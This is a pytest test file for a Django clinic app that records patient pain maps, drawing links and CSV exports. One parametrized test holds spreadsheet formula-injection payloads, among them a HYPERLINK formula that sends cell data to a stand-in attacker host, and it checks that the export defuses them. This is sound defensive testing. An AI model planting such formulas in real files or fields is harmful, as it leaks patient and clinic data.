"""Drawing, revisiting and comparing pain maps through the pages (the widget posts `marks` JSON)."""

from __future__ import annotations

import csv
import io
import json

import pytest
from django.conf import settings
from django.test import Client

from knotwork.painmaps.models import DrawingLink, PainMapRecord
from knotwork.painmaps.services import create_drawing_link
from tests.conftest import Personas, patient_page


def logged_in(user) -> Client:
    client = Client()
    client.force_login(user)
    return client


def marks(*pairs: tuple[str, int]) -> str:
    return json.dumps(
        [{"region": region, "intensity": intensity, "quality": None} for region, intensity in pairs]
    )


def test_it_saves_a_map_a_therapist_draws_at_the_clinic(personas: Personas) -> None:
    client = logged_in(personas.therapist_a)
    response = client.post(
        f"/patients/{personas.patient.pk}/pain-maps/new/",
        {
            "marks": marks(("low_back_right", 7), ("buttock_upper_right", 4)),
            "note": "after lifting",
        },
    )
    assert response.status_code == 302
    stored = PainMapRecord.objects.get()
    assert (stored.drawn_by, stored.drawn_via, stored.note) == (
        personas.therapist_a,
        "clinic",
        "after lifting",
    )
    assert {m.region: m.intensity for m in stored.marks.all()} == {
        "low_back_right": 7,
        "buttock_upper_right": 4,
    }


def test_it_shows_the_problem_and_stores_nothing_for_a_bad_drawing(personas: Personas) -> None:
    client = logged_in(personas.patient_user)
    response = client.post(
        "/me/pain-maps/new/", {"marks": marks(("low_back_right", 7), ("elbow_middle", 3))}
    )
    assert response.status_code == 400
    page = response.content.decode()
    assert "Nothing was saved" in page and "elbow_middle" in page
    assert not PainMapRecord.objects.exists()


def test_it_lets_a_patient_draw_through_a_one_time_link_once(personas: Personas) -> None:
    token = create_drawing_link(actor=personas.therapist_a, patient=personas.other_patient)
    anonymous = Client()
    assert anonymous.get(f"/draw/{token}/").status_code == 200
    done = anonymous.post(f"/draw/{token}/", {"marks": marks(("temple_left", 5))})
    assert "Thank you" in done.content.decode()
    stored = PainMapRecord.objects.get()
    assert (stored.patient, stored.drawn_via, stored.drawn_by) == (
        personas.other_patient,
        "link",
        None,
    )
    assert DrawingLink.objects.get().pain_map == stored
    again = anonymous.post(f"/draw/{token}/", {"marks": marks(("temple_left", 9))})
    assert again.status_code == 410
    assert PainMapRecord.objects.count() == 1


def test_it_keeps_the_link_usable_after_a_bad_drawing(personas: Personas) -> None:
    token = create_drawing_link(actor=personas.therapist_a, patient=personas.patient)
    assert Client().post(f"/draw/{token}/", {"marks": "not json"}).status_code == 400
    assert Client().post(f"/draw/{token}/", {"marks": marks(("crown", 2))}).status_code == 200
    assert PainMapRecord.objects.count() == 1


def test_it_compares_each_map_with_the_one_before(personas: Personas) -> None:
    client = logged_in(personas.patient_user)
    client.post("/me/pain-maps/new/", {"marks": marks(("low_back_left", 8), ("sacrum", 4))})
    client.post("/me/pain-maps/new/", {"marks": marks(("low_back_left", 5), ("flank_left", 3))})
    page = (
        logged_in(personas.therapist_a)
        .get(f"/patients/{personas.patient.pk}/pain-maps/")
        .content.decode()
    )
    assert "New: Flank, between the lowest rib and the pelvis (left)" in page
    assert "Gone: Sacrum" in page
    assert "Worst pain (0-10)" in page and "Pain extent (% of body surface)" in page


def test_it_exports_every_mark_as_csv(personas: Personas) -> None:
    logged_in(personas.patient_user).post(
        "/me/pain-maps/new/", {"marks": marks(("neck_back_upper_right", 6))}
    )
    response = logged_in(personas.therapist_a).get(f"/patients/{personas.patient.pk}/pain-maps.csv")
    rows = response.content.decode().strip().splitlines()
    assert rows[0].startswith("drawn_at,drawn_via,region")
    assert "neck_back_upper_right" in rows[1] and ",6," in rows[1]


@pytest.mark.parametrize(
    "note", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+cmd", "-2+3", "@SUM(A1)", "\t=1"]
)
def test_the_csv_never_hands_a_spreadsheet_a_formula(personas: Personas, note: str) -> None:
    """A patient writes the note through a drawing link; the clinic opens the CSV."""
    token = create_drawing_link(actor=personas.therapist_a, patient=personas.patient)
    Client().post(f"/draw/{token}/", {"marks": marks(("jaw_left", 3)), "note": note})
    assert PainMapRecord.objects.get().note == note

    response = logged_in(personas.therapist_a).get(f"/patients/{personas.patient.pk}/pain-maps.csv")
    row = next(csv.DictReader(io.StringIO(response.content.decode())))
    assert row["note"] == "'" + note
    assert row["intensity"] == "3"


def test_it_shows_the_latest_map_on_the_patient_page(personas: Personas) -> None:
    logged_in(personas.patient_user).post("/me/pain-maps/new/", {"marks": marks(("jaw_left", 6))})
    page = patient_page(logged_in(personas.therapist_a), personas.patient.pk)
    assert "Latest of 1" in page and "<svg" in page


def test_it_mails_the_one_time_link_to_a_patient_with_an_email(
    personas: Personas, django_capture_on_commit_callbacks
) -> None:
    from django.core import mail

    client = logged_in(personas.therapist_a)
    with django_capture_on_commit_callbacks(execute=True):
        page = client.post(f"/patients/{personas.patient.pk}/drawing-link/", follow=True)
    assert "It was emailed to pat@example.com" in page.content.decode()
    assert mail.outbox[0].to == ["pat@example.com"]
    link = next(line for line in mail.outbox[0].body.splitlines() if "/draw/" in line)
    assert link.startswith(settings.KNOTWORK_BASE_URL + "/draw/")
    assert Client().get(link.replace(settings.KNOTWORK_BASE_URL, "")).status_code == 200
